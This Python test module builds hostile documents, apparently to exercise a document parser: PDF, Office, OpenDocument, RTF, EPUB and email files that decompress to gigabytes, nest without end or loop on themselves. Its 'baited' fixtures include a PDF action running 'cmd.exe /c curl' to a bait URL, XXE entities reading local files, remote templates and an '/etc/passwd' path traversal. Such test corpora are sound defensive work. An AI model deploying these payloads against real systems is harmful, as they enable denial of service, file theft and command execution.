"""Documents: PDFs that go in circles, office files that are bombs, mail inside mail, trees without a floor."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

from tests import document_samples, samples
from tests.hostile.catalogue import Bait, baited, hostile
from tests.hostile.files.archives import GB, MB, Entry, deflated_zeros, zipped, zlib_zeros
from tests.hostile.files.pictures import laughs

Object = bytes | str


def pdf(objects: Sequence[Object], trailer: str = "") -> bytes:
    """Objects numbered from 1; the first is the catalogue."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(body))
        content = each.encode() if isinstance(each, str) else each
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    tail = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}"
    tail += f"trailer<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{len(body)}\n%%EOF\n"
    return bytes(body) + tail.encode()


def stream(data: bytes, more: str = "") -> bytes:
    return f"<</Length {len(data)}{more}>>stream\n".encode() + data + b"\nendstream"


CATALOGUE, PAGES = "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>"


def page(more: str = "/Contents 4 0 R", box: str = "0 0 595 842") -> str:
    return f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]{more}>>"


@hostile("filters.pdf")
def pdf_filter_bomb() -> bytes:
    """A page's content that is packed three times over and becomes 1 GiB."""
    packed = zlib.compress(zlib.compress(zlib_zeros(1024), 9), 9)
    return pdf([CATALOGUE, PAGES, page(), stream(packed, "/Filter[/FlateDecode/FlateDecode/FlateDecode]")])


@hostile("chain.pdf")
def pdf_of_a_thousand_filters() -> bytes:
    """Ten thousand filters, one after the other."""
    names = "/ASCIIHexDecode/ASCII85Decode/LZWDecode/RunLengthDecode/FlateDecode" * 2000
    return pdf([CATALOGUE, PAGES, page(), stream(b"41" * 1000, f"/Filter[{names}]")])


@hostile("tree.pdf")
def pdf_whose_pages_are_a_circle() -> bytes:
    """The tree of pages contains itself and counts two thousand million of them."""
    pages = "<</Type/Pages/Count 2147483647/Kids[2 0 R 3 0 R]>>"
    return pdf([CATALOGUE, pages, "<</Type/Pages/Parent 2 0 R/Count 2147483647/Kids[2 0 R 3 0 R 2 0 R]>>"])


@hostile("deep.pdf")
def pdf_whose_pages_are_deep() -> bytes:
    """Fifty thousand levels, and an outline that follows itself."""
    levels = 50_000
    nodes = [f"<</Type/Pages/Count 1/Kids[{n + 1} 0 R]/Parent {n - 1} 0 R>>" for n in range(3, levels)]
    return pdf(["<</Type/Catalog/Pages 3 0 R/Outlines 2 0 R>>", _CIRCLE, *nodes, page("")])


_CIRCLE = "<</First 2 0 R/Last 2 0 R/Next 2 0 R/Prev 2 0 R/Parent 2 0 R/Count 9>>"


@hostile("pages.pdf")
def pdf_of_many_pages() -> bytes:
    """A hundred thousand times the same page."""
    return pdf([CATALOGUE, f"<</Type/Pages/Count 100000/Kids[{'3 0 R ' * 100_000}]>>", page("")])


@hostile("box.pdf")
def pdf_of_absurd_page() -> bytes:
    """A page of a thousand million points a side, in units of as many."""
    return pdf([CATALOGUE, PAGES, page("/UserUnit 1e9", "-1e9 -1e9 1e9 1e9")])


@hostile("nan.pdf")
def pdf_of_no_page() -> bytes:
    """Boxes that are empty, turned inside out, or no numbers; a turn by seven degrees."""
    boxes = ("0 0 0 0", "9 9 1 1", "/a (b) null 1", "1e400 -1e400 1e400 0")
    kids = " ".join(f"{n} 0 R" for n in range(3, 7))
    return pdf([CATALOGUE, f"<</Type/Pages/Count 4/Kids[{kids}]>>", *(page("/Rotate 7", box) for box in boxes)])


@hostile("forms.pdf")
def pdf_of_nested_forms() -> bytes:
    """Forty forms, each of which draws the next one twice: ten to the twelfth squares."""
    last = 44
    forms = [
        stream(
            b"/F Do /F Do" if n < last else b"0 0 9 9 re f",
            f"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</F {min(n + 1, last)} 0 R>>>>",
        )
        for n in range(5, last + 1)
    ]
    return pdf([CATALOGUE, PAGES, page(_DRAWS), stream(b"/F Do"), *forms])


_DRAWS = "/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>"


@hostile("itself.pdf")
def pdf_whose_form_draws_itself() -> bytes:
    """A form and a pattern that contain themselves."""
    form = stream(b"/F Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")
    return pdf([CATALOGUE, PAGES, page(_DRAWS), stream(b"/F Do"), form])


@hostile("picture.pdf")
def pdf_with_a_picture_bomb() -> bytes:
    """A picture of 60,000 by 60,000 pixels on the page, packed to a few KB each time."""
    picture = stream(
        zlib.compress(zlib_zeros(1024), 9),
        "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
        "/Filter[/FlateDecode/FlateDecode]",
    )
    return pdf([CATALOGUE, PAGES, page(_DRAWS), stream(b"500 0 0 500 0 0 cm /F Do"), picture])


@hostile("text.pdf")
def pdf_of_much_text() -> bytes:
    """A page that shows sixteen million letters."""
    shown = zlib.compress(b"BT /A 9 Tf " + b"(aaaaaaaaaaaaaaaa) Tj " * 1_000_000 + b"ET", 9)
    font = "/Contents 4 0 R/Resources<</Font<</A<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    return pdf([CATALOGUE, PAGES, page(font), stream(shown, "/Filter/FlateDecode")])


@hostile("states.pdf")
def pdf_of_unbalanced_states() -> bytes:
    """A million saved states and clips, none given back."""
    shown = zlib.compress(b"q 0 0 9 9 re W n " * 1_000_000, 9)
    return pdf([CATALOGUE, PAGES, page(), stream(shown, "/Filter/FlateDecode")])


@hostile("nesting.pdf")
def pdf_of_deep_objects() -> bytes:
    """Arrays and dictionaries a hundred thousand deep."""
    return pdf([CATALOGUE, PAGES, page("/Annots " + "[" * 100_000), "<</A" * 100_000])


@hostile("length.pdf")
def pdf_of_circular_lengths() -> bytes:
    """A stream whose length is itself; a cross-reference that comes before itself; strings without end."""
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 4294967295/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"
    looped = b"4 0 obj<</Length 4 0 R>>stream\n((((((((((" + b"(" * 100_000 + b"\nendstream endobj\n"
    return b"%PDF-1.7\n" + table + b"\n1 0 obj" + CATALOGUE.encode() + b"endobj\n" + looped + table


@hostile("objects.pdf")
def pdf_of_circular_object_streams() -> bytes:
    """Object streams that are inside each other, with absurd counts."""
    inner = stream(b"2 0 3 9 << >>", "/Type/ObjStm/N 2147483647/First 2147483647/Extends 4 0 R")
    return pdf(["<</Type/Catalog/Pages 5 0 R>>", inner, inner, inner])


@baited("actions.pdf")
def pdf_that_acts(bait: Bait) -> bytes:
    """Scripts, launches, submissions, remote documents, streams that lie in another file, forms with entities."""
    actions = [
        f"<</S/URI/URI({bait.url}/pdf)>>",
        f"<</S/Launch/F({bait.text})/Win<</F(cmd.exe)/P(/c curl {bait.url})>>>>",
        f"<</S/JavaScript/JS(app.launchURL\\('{bait.url}'\\);this.submitForm\\('{bait.url}'\\);)>>",
        f"<</S/GoToR/F<</FS/URL/F({bait.url}/other.pdf)>>/D[0/Fit]>>",
        f"<</S/SubmitForm/F<</FS/URL/F({bait.url}/form)>>>>",
        f"<</S/ImportData/F({bait.text})>>",
    ]
    catalogue = f"<</Type/Catalog/Pages 2 0 R/OpenAction {actions[0]}/AA<</WC {actions[2]}/O {actions[1]}>>"
    catalogue += (
        f"/Names<</JavaScript<</Names[(a){actions[2]}]>>>>/AcroForm<</XFA 5 0 R/Fields[]>>/X[{''.join(actions)}]>>"
    )
    outer = stream(b"", f"/F({bait.text})/FFilter/ASCIIHexDecode")
    xfa = stream(b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file://%s'>]><xdp:xdp>&a;</xdp:xdp>" % bait.text.encode())
    return pdf([catalogue, PAGES, page(f"/Contents 4 0 R/AA<</O {actions[5]}>>"), outer, xfa])


@hostile("locked.pdf")
def pdf_of_odd_encryption() -> bytes:
    """A handler that nobody knows, with keys of no length."""
    return pdf([CATALOGUE, PAGES, page("")], "/Encrypt<</Filter/Unheard/V 99/R 99/O()/U()/P -1/Length 99999>>/ID[()()]")


TYPES = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
WORD = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
_RELS = "xmlns='http://schemas.openxmlformats.org/package/2006/relationships'"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office(parts: dict[str, bytes], main: str = "word/document.xml") -> bytes:
    """An office file of these parts, packed; its kind follows from the main part."""
    kind = {"word": "wordprocessingml.document", "xl": "spreadsheetml.sheet", "ppt": "presentationml.presentation"}
    types = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
    types += f"<Override PartName='/{main}' ContentType='application/vnd.openxmlformats-officedocument."
    types += f"{kind[main.partition('/')[0]]}.main+xml'/></Types>"
    rels = f"<Relationships {_RELS}><Relationship Id='r1' Type='{_OFFICE}/officeDocument' Target='{main}'/>"
    rels += f"<Relationship Id='r2' Type='{_OFFICE}/thumbnail' Target='docProps/thumbnail.jpeg'/></Relationships>"
    return packed({"[Content_Types].xml": types.encode(), "_rels/.rels": rels.encode(), **parts})


def packed(parts: dict[str, bytes], *, stored: Sequence[str] = ()) -> bytes:
    """A zip of these parts, each deflated but those in ``stored``, with everything right about it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return out.getvalue()


@hostile("laughs.docx")
def docx_entity_bomb() -> bytes:
    """A billion laughs in the text, the properties and the relations."""
    return office(
        {
            "word/document.xml": laughs("w:document", f"<w:body {WORD}><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body>"),
            "docProps/core.xml": laughs("cp:coreProperties"),
            "docProps/app.xml": laughs("Properties"),
        }
    )


@baited("outer.docx")
def docx_with_outer_references(bait: Bait) -> bytes:
    """External entities, an attached template, linked pictures and frames elsewhere."""
    entity = f"<!DOCTYPE r [<!ENTITY a SYSTEM 'file://{bait.text}'><!ENTITY b SYSTEM '{bait.url}/docx'>]>"
    text = f"{entity}<w:document {WORD}><w:body><w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p></w:body></w:document>"
    links = "".join(
        f"<Relationship Id='r{n}' Type='{_OFFICE}/{kind}' TargetMode='External' Target='{target}'/>"
        for n, kind in enumerate(("attachedTemplate", "image", "frame", "oleObject", "subDocument"))
        for target in (f"{bait.url}/{kind}", f"file://{bait.text}")
    )
    core = f"{entity}<cp:coreProperties xmlns:cp='x' xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>&a;&b;</dc:title>"
    return office(
        {
            "word/document.xml": text.encode(),
            "word/_rels/document.xml.rels": f"<Relationships {_RELS}>{links}</Relationships>".encode(),
            "docProps/core.xml": f"{core}</cp:coreProperties>".encode(),
        }
    )


@hostile("bomb.docx")
def docx_bomb() -> bytes:
    """A document part of 1 GiB."""
    parts = [
        Entry(b"[Content_Types].xml", TYPES),
        Entry(b"_rels/.rels", b"<Relationships/>"),
        Entry(b"word/document.xml", deflated_zeros(1024), 8, size=GB),
        Entry(b"docProps/core.xml", deflated_zeros(1024), 8, size=GB),
        Entry(b"docProps/thumbnail.jpeg", deflated_zeros(1024), 8, size=GB),
    ]
    return zipped(parts)


@hostile("liar.docx")
def docx_that_lies() -> bytes:
    """Parts that claim a few bytes and unpack to 512 MiB."""
    parts = [
        Entry(b"[Content_Types].xml", TYPES),
        Entry(b"word/document.xml", deflated_zeros(512), 8, size=100),
        Entry(b"docProps/core.xml", deflated_zeros(512), 8, size=100),
    ]
    return zipped(parts)


@hostile("deep.docx")
def docx_of_great_depth() -> bytes:
    """Tables in tables, two hundred thousand deep."""
    deep = b"<w:tbl>" * 200_000
    return office({"word/document.xml": f"<w:document {WORD}><w:body>".encode() + deep})


@hostile("thumbnail.docx")
def docx_with_a_picture_bomb() -> bytes:
    """The embedded preview claims four thousand million pixels."""
    text = f"<w:document {WORD}><w:body/></w:document>".encode()
    return office({"word/document.xml": text, "docProps/thumbnail.jpeg": samples.huge_png()})


@hostile("cells.xlsx")
def xlsx_of_absurd_size() -> bytes:
    """A sheet that claims every cell there can be, three hundred thousand shared strings, ten thousand sheets."""
    name = "xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'"
    sheets = "".join(f"<sheet name='s{n}' sheetId='{n}'/>" for n in range(10_000))
    strings = f"<sst {name} count='4294967295'>{'<si><t>x</t></si>' * 300_000}</sst>"
    cell = "<c r='XFD1048576' t='s'><v>4294967295</v></c>"
    row = f"<row r='1048576'>{cell * 1000}</row>"
    sheet = f"<worksheet {name}><dimension ref='A1:XFD1048576'/><sheetData>{row * 50}</sheetData></worksheet>"
    return office(
        {
            "xl/workbook.xml": f"<workbook {name}><sheets>{sheets}</sheets></workbook>".encode(),
            "xl/sharedStrings.xml": strings.encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
        },
        "xl/workbook.xml",
    )


@hostile("slides.pptx")
def pptx_of_many_slides() -> bytes:
    """Thirty thousand slides of nothing."""
    slides = {f"ppt/slides/slide{n}.xml": b"<p:sld/>" for n in range(30_000)}
    return office({"ppt/presentation.xml": b"<p:presentation/>", **slides}, "ppt/presentation.xml")


@hostile("macros.docm")
def docm_with_macros() -> bytes:
    """A project of macros that is an OLE file in a circle."""
    text = f"<w:document {WORD}><w:body/></w:document>".encode()
    return office({"word/document.xml": text, "word/vbaProject.bin": ole_in_a_circle()})


OASIS = "urn:oasis:names:tc:opendocument:xmlns"


def opendocument(kind: str, parts: dict[str, bytes]) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return packed({"mimetype": mimetype, **parts}, stored=["mimetype"])


@hostile("rows.ods")
def ods_of_absurd_size() -> bytes:
    """Cells and rows repeated two thousand million times."""
    most = "2147483647"
    cell = f"<table:table-cell table:number-columns-repeated='{most}' xmlns:t='x'><text:p>x</text:p></table:table-cell>"
    rows = f"<table:table-row table:number-rows-repeated='{most}'>{cell * 100}</table:table-row>" * 100
    names = f"xmlns:office='{OASIS}:office:1.0' xmlns:table='{OASIS}:table:1.0' xmlns:text='{OASIS}:text:1.0'"
    body = f"<office:body><office:spreadsheet><table:table>{rows}</table:table></office:spreadsheet></office:body>"
    content = f"<office:document-content {names}>{body}</office:document-content>"
    return opendocument("spreadsheet", {"content.xml": content.encode()})


@hostile("spaces.odt")
def odt_of_many_spaces() -> bytes:
    """A hundred runs of two thousand million spaces each, and a preview that is a bomb."""
    names = f"xmlns:office='{OASIS}:office:1.0' xmlns:text='{OASIS}:text:1.0'"
    spaces = "<text:p><text:s text:c='2147483647'/></text:p>" * 100
    content = f"<office:document-content {names}><office:body><office:text>{spaces}</office:text></office:body>"
    parts = {
        "content.xml": f"{content}</office:document-content>".encode(),
        "meta.xml": laughs("office:document-meta"),
        "Thumbnails/thumbnail.png": samples.huge_png(),
    }
    return opendocument("text", parts)


@baited("outer.odt")
def odt_with_outer_references(bait: Bait) -> bytes:
    """Entities, pictures and sections from elsewhere; macros at the opening."""
    names = (
        f"xmlns:office='{OASIS}:office:1.0' xmlns:text='{OASIS}:text:1.0' xmlns:xlink='http://www.w3.org/1999/xlink'"
    )
    entity = f"<!DOCTYPE r [<!ENTITY a SYSTEM 'file://{bait.text}'><!ENTITY b SYSTEM '{bait.url}/odt'>]>"
    link = f"<text:section><text:section-source xlink:href='file://{bait.text}'/></text:section>"
    event = f"<office:scripts><x xlink:href='vnd.sun.star.script:{bait.url}'/></office:scripts>"
    body = f"<office:body><office:text><text:p>&a;&b;</text:p>{link}</office:text></office:body>"
    content = f"{entity}<office:document-content {names}>{event}{body}</office:document-content>"
    return opendocument("text", {"content.xml": content.encode(), "meta.xml": content.encode()})


@hostile("circle.doc")
def ole_in_a_circle() -> bytes:
    """An old office file whose sectors follow themselves."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0, 0xFFFFFFFF, 0, 0xFFFFFFFF)
    head += struct.pack("<I", 0) * 109
    table = struct.pack("<I", 0) + struct.pack("<I", 1) * 127
    name = "Root Entry".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBBIII", 22, 5, 1, 0, 0, 0)
    entry = name + bytes(36) + struct.pack("<IQ", 1, 2**63)
    return head.ljust(512, b"\0") + table + (entry.ljust(128, b"\0") * 4)


@hostile("deep.rtf")
def rtf_of_great_depth() -> bytes:
    """Half a million groups inside each other, and binary data of two gigabytes."""
    return b"{\\rtf1" + b"{\\*\\x" * 500_000 + b"\\bin2147483647 x"


@hostile("nested.eml")
def mail_of_nested_mails() -> bytes:
    """Messages inside messages and parts inside parts, five thousand deep."""
    message = b""
    for n in range(5000):
        message += b"Content-Type: message/rfc822\r\n\r\nSubject: %d\r\n" % n if n % 2 else _part(n)
    return b"From: a@example.org\r\nTo: b@example.org\r\nMIME-Version: 1.0\r\n" + message + b"\r\nend"


def _part(n: int) -> bytes:
    return b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n)


@hostile("parts.eml")
def mail_of_many_parts() -> bytes:
    """A hundred thousand empty attachments."""
    part = b"--x\r\nContent-Disposition: attachment; filename=a\r\n\r\n\r\n"
    head = (
        b"From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    )
    return head + part * 100_000


@hostile("heads.eml")
def mail_of_absurd_heads() -> bytes:
    """A head line of 4 MB, a hundred thousand recipients, words in charsets that are none, a date of no calendar."""
    heads = [
        b"From: " + b'"a" <a@example.org>, ' * 100_000,
        b"Subject: " + b"=?utf-8?q?a?= =?nocharset?b?/////w==?= =?utf-7?q?+AAA-?= " * 20_000,
        b"Date: 99 Foo 999999 99:99:99 +9999999999",
        b"X-Long: " + b"a" * 4_000_000,
        b"Content-Type: text/plain; charset=" + b"x" * 10_000 + b"; " + b"a*0*=utf-8''%ff; " * 5000,
        b"Content-Transfer-Encoding: " + b"\xff" * 1000,
    ]
    return b"Received: by x; today\r\n" + b"\r\n".join(heads) + b"\r\n\r\nbody"


@baited("outer.eml")
def mail_with_outer_bodies(bait: Bait) -> bytes:
    """A body that lies elsewhere, a page that calls home."""
    head = "From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    outer = f"--x\r\nContent-Type: message/external-body; access-type=local-file; name={bait.text}\r\n\r\n\r\n"
    outer += f"--x\r\nContent-Type: message/external-body; access-type=URL; URL={bait.url}/mail\r\n\r\n\r\n"
    web = (
        f"--x\r\nContent-Type: text/html\r\n\r\n<img src='{bait.url}/pixel'><link rel=stylesheet href='{bait.url}'>\r\n"
    )
    return (head + outer + web + "--x--\r\n").encode()


@hostile("boundary.eml")
def mail_of_absurd_boundary() -> bytes:
    """A boundary of a hundred thousand dashes before a megabyte of dashes."""
    line = b"-" * 100_000
    return (
        b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=" + line + b"\r\n\r\n" + b"-" * MB
    )


@hostile("loop.epub")
def epub_of_nothing() -> bytes:
    """A book whose container names itself, with entities."""
    container = laughs("container", "<rootfiles><rootfile full-path='META-INF/container.xml'/>&l9;</rootfiles>")
    parts = {"mimetype": b"application/epub+zip", "META-INF/container.xml": container}
    return packed(parts, stored=["mimetype"])


@hostile("picture.epub")
def epub_of_pictures() -> bytes:
    """A book whose pages are pictures, noise and each other's replacement."""
    noise = bytes(range(256)) * 1024
    kinds = ("image/jpeg", "application/xhtml+xml")
    items = "".join(f"<item id='i{n}' href='i{n}' media-type='{kinds[n % 2]}' fallback='i{n}'/>" for n in range(200))
    spine = "".join(f"<itemref idref='i{n}'/>" for n in range(200))
    place = b"<container><rootfiles><rootfile full-path='b'/></rootfiles></container>"
    book = f"<package><manifest>{items}</manifest><spine>{spine}</spine></package>".encode()
    pages = {f"i{n}": (b"<html>" if n % 3 else b"\xff\xfe<\0") + noise for n in range(20)}
    parts = {"mimetype": b"application/epub+zip", "META-INF/container.xml": place, "b": book, **pages}
    return packed(parts, stored=["mimetype"])


@hostile("circle.pptx")
def pptx_of_related_circles() -> bytes:
    """Two thousand notes that relate to each other, in a circle and beyond the package."""
    related = "<Relationships>" + "".join(
        f"<Relationship Id='r{n}' Type='x/{kind}' Target='../notesSlides/n{n}.xml'/>"
        for n, kind in enumerate(("notesSlide", "comments", "chart", "diagramData") * 500)
    )
    related += "<Relationship Id='x' Type='x/comments' Target='../../../../etc/passwd'/></Relationships>"
    notes = {f"ppt/notesSlides/n{n}.xml": b"<a:t xmlns:a='a'>x</a:t>" for n in range(2000)}
    places = {f"ppt/notesSlides/_rels/n{n}.xml.rels": related.encode() for n in range(0, 2000, 100)}
    parts = {"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<presentation/>", **notes, **places}
    return packed({**parts, "ppt/slides/slide1.xml": b"<sld/>", "ppt/slides/_rels/slide1.xml.rels": related.encode()})


@hostile("dates.xlsx")
def xlsx_of_absurd_dates() -> bytes:
    """Formats of a hundred thousand quotes, dates before and after all time."""
    code = "[" * 500 + "y" + "\\" * 500 + "&quot;" * 101
    styles = f"<styleSheet><numFmts><numFmt numFmtId='200' formatCode='{code}'/></numFmts><cellXfs>"
    styles += "<xf numFmtId='200'/><xf numFmtId='14'/>" * 50_000 + "</cellXfs></styleSheet>"
    numbers = ("1e400", "-1", "nan", "2958466", "0.99999999999", "9" * 5000, "60", "x")
    cells = "".join(f"<c s='{n % 3}'><v>{number}</v></c>" for n, number in enumerate(numbers * 100))
    sheet = f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>"
    book = b"<workbook><workbookPr date1904='1'/><sheets><sheet name='s'/></sheets></workbook>"
    parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": book, "xl/styles.xml": styles.encode()}
    return packed({**parts, "xl/worksheets/sheet1.xml": sheet.encode()})


@hostile("fonts.rtf")
def rtf_of_many_fonts() -> bytes:
    """A hundred thousand fonts, each of another character set, and a change of font for every letter."""
    fonts = b"".join(b"{\\f%d\\fcharset%d A;}" % (n, n % 256) for n in range(100_000))
    return b"{\\rtf1\\ansi{\\fonttbl" + fonts + b"}" + b"\\f128\\'93\\f204\\'d3\\uc9\\u-1\\v\\v0" * 100_000 + b"}"


@hostile("form.pdf")
def pdf_of_many_fields() -> bytes:
    """Twenty thousand fields that are each other's parents, and notes of a megabyte."""
    fields = " ".join(f"{n} 0 R" for n in range(6, 20_006))
    form = f"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[{fields}]>>>>"
    said = "/FT/Tx/Contents 5 0 R/V 5 0 R"
    notes = [
        f"<</Type/Annot/Subtype/{'Widget' if n % 2 else 'Text'}/Parent {6 + (n + 1) % 20_000} 0 R{said}>>"
        for n in range(20_000)
    ]
    objects = [form, PAGES, page(f"/Contents 4 0 R/Annots[{fields}]"), stream(b""), f"({'x' * MB})", *notes]
    return pdf(objects)


@hostile("wrong.docx")
def docx_of_wrong_characters() -> bytes:
    """Every reference that XML does not allow, and half a million that are none."""
    wrong = "".join(f"&#x{n:x};" for n in (0, 1, 31, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF, 0x110000, 0xFFFFFFF))
    core = f"<core><title>{wrong}</title><creator>{'&a' * 500_000}</creator></core>"
    body = f"<document><w:t xmlns:w='w'>{wrong * 10_000}&nosuch;&nbsp;</w:t></document>"
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": body.encode(), "docProps/core.xml": core.encode()}
    return packed(parts)


@hostile("alternatives.eml")
def mail_of_nested_alternatives() -> bytes:
    """Fifteen levels of alternatives, a thousand ways each, in encodings that are none."""
    head = b"From: a@b\r\nMIME-Version: 1.0\r\n"
    for n in range(15):
        head += b"Content-Type: multipart/alternative; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
    part = b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B" + b"~~" * 200 + b"\r\n"
    return head + part + (b"--b14\r\n" + part) * 1000


@hostile("records.xls")
def xls_of_absurd_records() -> bytes:
    """Ten thousand records, texts that go on for ever, cells of formats that are none."""
    empty = b"\x0a\x00\x00\x00" * 6_000
    texts = b"\xfc\x00\x0b\x00" + bytes(8) + b"\xff\xff\x01" + b"\x3c\x00\x03\x00\x01aa" * 2_000
    cells = b"\x03\x02\x0e\x00" + b"\xff" * 14 + b"\xfd\x00\x0a\x00" + b"\xff" * 10
    return document_samples.ole((("Workbook", b"\x09\x08\x10\x00" + bytes(16) + empty + texts + cells * 200),))


@hostile("pieces.doc")
def doc_of_absurd_pieces() -> bytes:
    """Two thousand pieces, each of the whole text."""
    count = 2_000
    plan = b"".join(struct.pack("<I", 1000 * n) for n in range(count + 1))
    plan += b"".join(struct.pack("<HIH", 0, 0x40000000, 0) for _ in range(count))
    head = bytearray(0x1AA)
    struct.pack_into("<HHIH", head, 0, 0xA5EC, 0xC1, 0, 0)
    struct.pack_into("<II", head, 0x1A2, len(head), len(plan) + 5)
    table = bytes(head) + b"\x02" + struct.pack("<I", len(plan)) + plan
    return document_samples.ole((("WordDocument", bytes(head) + b"x" * 5000), ("0Table", table)))
